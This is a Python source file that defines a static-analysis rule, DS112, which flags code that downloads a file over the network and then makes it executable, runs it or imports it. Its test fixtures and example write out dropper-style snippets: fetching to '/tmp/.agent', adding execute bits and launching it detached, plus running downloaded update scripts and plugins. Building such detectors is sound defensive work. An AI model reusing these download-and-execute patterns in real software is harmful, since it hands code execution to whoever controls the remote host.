"""Download-then-run: a file fetched over the network is made executable, run or imported (DS112).

Within one function (or the module body), in source order: a *download* writes network data to a
path (`urlretrieve(url, path)`, `open(path, "wb")` + `write(response.content)`,
`Path.write_bytes(response.content)`, `shutil.copyfileobj(response.raw, f)`); a later *run* of the
same path is `os.chmod` with execute bits, the path as the program (or the script of a shell or
interpreter) of a process call, `os.startfile`, or an import (`runpy.run_path`,
`spec_from_file_location`, `SourceFileLoader`, `exec(open(path).read())`, `sys.path` + import).
Paths match by name (`dest`, `str(dest)`, `f"{dest}"`) or by identical expression.
"""

from __future__ import annotations

import re

import libcst as cst

from analyzer.engines.cst.rules._support import (
    ScopedRule,
    arg,
    call_name,
    calls_in,
    const_int,
    const_str,
    is_network,
    is_process,
    literal_text,
    source_of,
    walk,
)
from analyzer.findings import Confidence, Severity

_DOWNLOADERS = frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"})
_IMPORTERS = frozenset({
    "runpy.run_path", "importlib.util.spec_from_file_location", "importlib.machinery.SourceFileLoader",
    "zipimport.zipimporter", "imp.load_source", "sys.path.insert", "sys.path.append", "site.addsitedir",
})
_INTERPRETERS = re.compile(
    r"(^|[/\\])(sh|bash|zsh|dash|ksh|python[\d.]*|pythonw|py|perl|ruby|node|powershell|pwsh|cmd|msiexec|wscript|cscript|rundll32)(\.exe)?$",
    re.IGNORECASE,
)
_EXEC_BITS = re.compile(r"S_I[XR]?[XW]?(USR|GRP|OTH|EXEC)|S_IXUSR|S_IEXEC|S_IRWX")


def _names(node: cst.CSTNode) -> set[str]:
    return {n.value for n in walk(node) if isinstance(n, cst.Name)}


class DownloadedFileExecuted(ScopedRule):
    id = "DS112"
    name = "downloaded-file-executed"
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    cwe = (494,)
    security_severity = "8.8"
    summary = "A file downloaded over the network is made executable, run, or imported as code."
    what = (
        "Reports, in the function that downloaded a file (urlretrieve, or requests/httpx/urllib "
        "responses written with `open(…, 'wb')`, `write_bytes` or `copyfileobj`), a later "
        "`os.chmod` with execute bits on that path, a process call that runs it (as the program or "
        "as the script of a shell/interpreter), `os.startfile`, or loading it as Python "
        "(`runpy.run_path`, `spec_from_file_location`, `SourceFileLoader`, `exec(open(path).read())`, "
        "`sys.path` insertion)."
    )
    why = (
        "Whatever the server sends at that moment runs with this program's rights, and the code is "
        "never reviewed: the repository only shows a URL. Droppers, 'self-updaters' and fake model "
        "or plugin downloads all take this shape; without a pinned hash a compromised host, CDN or "
        "DNS record owns every machine that runs it."
    )
    fix = "Ship the code with the program, or pin the download's SHA-256 and verify it before any use."
    example = (
        "import os, subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://x.example/agent', '/tmp/agent')\n"
        "os.chmod('/tmp/agent', 0o755)\n"
        "subprocess.Popen(['/tmp/agent'])\n"
    )
    use_instead = (
        "import hashlib, urllib.request\n"
        "data = urllib.request.urlopen('https://x.example/agent-1.4.2').read()\n"
        "if hashlib.sha256(data).hexdigest() != PINNED_SHA256:\n"
        "    raise RuntimeError('checksum mismatch')\n"
    )
    references = ("https://cwe.mitre.org/data/definitions/494.html", "https://attack.mitre.org/techniques/T1105/")
    TRIGGER = re.compile(r"urlretrieve|requests|httpx|urlopen|wget|aiohttp|urllib3")

    VALID = (
        "import urllib.request, csv\n"
        "def load_rates(url):\n"
        "    urllib.request.urlretrieve(url, 'rates.csv')\n"
        "    with open('rates.csv') as f:\n"
        "        return list(csv.reader(f))\n",
        "import os, requests, subprocess\n"
        "def fetch_archive(url, dest):\n"
        "    with open(dest, 'wb') as f:\n"
        "        f.write(requests.get(url, timeout=30).content)\n"
        "    os.chmod(dest, 0o644)\n"
        "    subprocess.run(['tar', 'xzf', dest, '-C', 'data'], check=True)\n"
        "    os.system(f'unzip -q {dest}')\n",
        "import os, subprocess\n"
        "def build(script):\n"
        "    os.chmod(script, 0o755)\n"
        "    subprocess.run([script], check=True)  # a local file, nothing was downloaded\n",
    )
    INVALID = (
        "import os, stat, subprocess, requests\n"
        "def install_agent(url):\n"
        "    path = '/tmp/.agent'\n"
        "    r = requests.get(url, timeout=30)\n"
        "    with open(path, 'wb') as f:\n"
        "        f.write(r.content)\n"
        "    # ruleid: downloaded-file-executed\n"
        "    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)\n"
        "    # ruleid: downloaded-file-executed\n"
        "    subprocess.Popen([path], start_new_session=True)\n",
        "import urllib.request, importlib.util, tempfile, os\n"
        "def load_plugin(url):\n"
        "    target = os.path.join(tempfile.gettempdir(), 'plugin.py')\n"
        "    urllib.request.urlretrieve(url, target)\n"
        "    # ruleid: downloaded-file-executed\n"
        "    spec = importlib.util.spec_from_file_location('plugin', target)\n"
        "    module = importlib.util.module_from_spec(spec)\n"
        "    spec.loader.exec_module(module)\n"
        "    return module\n",
        "import os, subprocess, httpx\nfrom pathlib import Path\n"
        "def self_update(url):\n"
        "    script = Path.home() / '.cache' / 'update.sh'\n"
        "    script.write_bytes(httpx.get(url).content)\n"
        "    # ruleid: downloaded-file-executed\n"
        "    subprocess.run(['bash', str(script)], check=True)\n"
        "    # ruleid: downloaded-file-executed\n"
        "    os.system(f'chmod +x {script} && {script} --quiet')\n",
    )

    def visit_Module(self, node: cst.Module) -> None:
        super().visit_Module(node)
        self._check_scope(node)

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        super().visit_FunctionDef(node)
        self._check_scope(node.body)

    def _check_scope(self, scope: cst.CSTNode) -> None:
        net: set[str] = set()  # names holding a response or its content
        downloaded: list[tuple[set[str], str]] = []  # (names, expression text) of downloaded paths
        handles: dict[str, cst.BaseExpression] = {}  # file handle name -> path, for `with open(p, "wb") as f`
        for node in walk(scope, into_scopes=False):
            if isinstance(node, cst.Assign) and self._is_net(node.value, net):
                net.update(t.target.value for t in node.targets if isinstance(t.target, cst.Name))
            elif isinstance(node, cst.WithItem) and node.asname is not None and isinstance(node.asname.name, cst.Name):
                if self._is_net(node.item, net):
                    net.add(node.asname.name.value)
                elif isinstance(node.item, cst.Call) and call_name(node.item, self.aliases) in ("open", "io.open"):
                    mode = const_str(arg(node.item, 1, "mode")) or ""
                    path = arg(node.item, 0, "file")
                    if "w" in mode and path is not None:
                        handles[node.asname.name.value] = path
            elif isinstance(node, cst.Call):
                written = self._downloaded_path(node, net, handles)
                if written is not None:
                    downloaded.append((_names(written) if isinstance(written, cst.Name) else set(), source_of(written)))
                elif downloaded and self._runs(node, downloaded):
                    self.report(node, "Runs or loads a file that this code downloaded a moment earlier.")

    def _is_net(self, node: cst.BaseExpression, net: set[str]) -> bool:
        for call in calls_in(node):
            if is_network(call_name(call, self.aliases)):
                return True
        return bool(_names(node) & net)

    def _downloaded_path(self, call: cst.Call, net: set[str], handles: dict[str, cst.BaseExpression]) -> cst.BaseExpression | None:
        name = call_name(call, self.aliases)
        if name in _DOWNLOADERS:
            return arg(call, 1, "filename") or arg(call, 1, "out")
        func = call.func
        if not isinstance(func, cst.Attribute) or not call.args:
            if name == "shutil.copyfileobj" and len(call.args) >= 2 and self._is_net(call.args[0].value, net):
                target = call.args[1].value
                return handles.get(target.value) if isinstance(target, cst.Name) else None
            return None
        data = call.args[0].value
        if func.attr.value in ("write_bytes", "write_text") and self._is_net(data, net):
            return func.value
        if func.attr.value == "write" and self._is_net(data, net):
            target = func.value
            if isinstance(target, cst.Name) and target.value in handles:
                return handles[target.value]
            if isinstance(target, cst.Call) and call_name(target, self.aliases) in ("open", "io.open"):
                return arg(target, 0, "file")
        return None

    def _refers(self, node: cst.CSTNode | None, downloaded: list[tuple[set[str], str]]) -> bool:
        if node is None:
            return False
        names, text = _names(node), source_of(node)
        return any((path_names and path_names <= names) or path_text in text for path_names, path_text in downloaded)

    def _runs(self, call: cst.Call, downloaded: list[tuple[set[str], str]]) -> bool:
        name = call_name(call, self.aliases)
        first = arg(call, 0)
        if name == "os.chmod":
            mode = arg(call, 1, "mode")
            bits = const_int(mode)
            executable = (bits is not None and bits & 0o111) or (mode is not None and _EXEC_BITS.search(source_of(mode)))
            return bool(executable) and self._refers(first, downloaded)
        if name in _IMPORTERS:
            target = arg(call, 1) if name in ("importlib.util.spec_from_file_location",
                                                 "importlib.machinery.SourceFileLoader", "imp.load_source",
                                                 "sys.path.insert") else first
            return self._refers(target, downloaded)
        if name in ("exec", "compile") and first is not None:
            return any(
                call_name(c, self.aliases) in ("open", "io.open") and self._refers(arg(c, 0), downloaded)
                for c in calls_in(first)
            )
        if name == "os.startfile" or re.match(r"^os\.(exec|spawn)", name):
            return self._refers(first, downloaded)
        if is_process(name) and first is not None:
            return self._program_refers(first, downloaded)
        return False

    def _program_refers(self, command: cst.BaseExpression, downloaded: list[tuple[set[str], str]]) -> bool:
        """The downloaded path is the program, or the script handed to a shell or interpreter."""
        if isinstance(command, (cst.List, cst.Tuple)):
            elements = [el.value for el in command.elements]
        else:
            # A shell string: the path must be the program (a leading hole such as f"{path} -q"), the
            # script of an interpreter (f"bash {path}"), or be made executable (`chmod +x`).
            tokens = literal_text(command, self.bindings).split()
            runs_it = bool(tokens) and (tokens[0] == "*" or bool(_INTERPRETERS.search(tokens[0])))
            return (runs_it or "chmod +x" in " ".join(tokens)) and self._refers(command, downloaded)
        if not elements:
            return False
        if self._refers(elements[0], downloaded):
            return True
        program = const_str(elements[0]) or ""
        return bool(_INTERPRETERS.search(program)) and any(self._refers(el, downloaded) for el in elements[1:3])
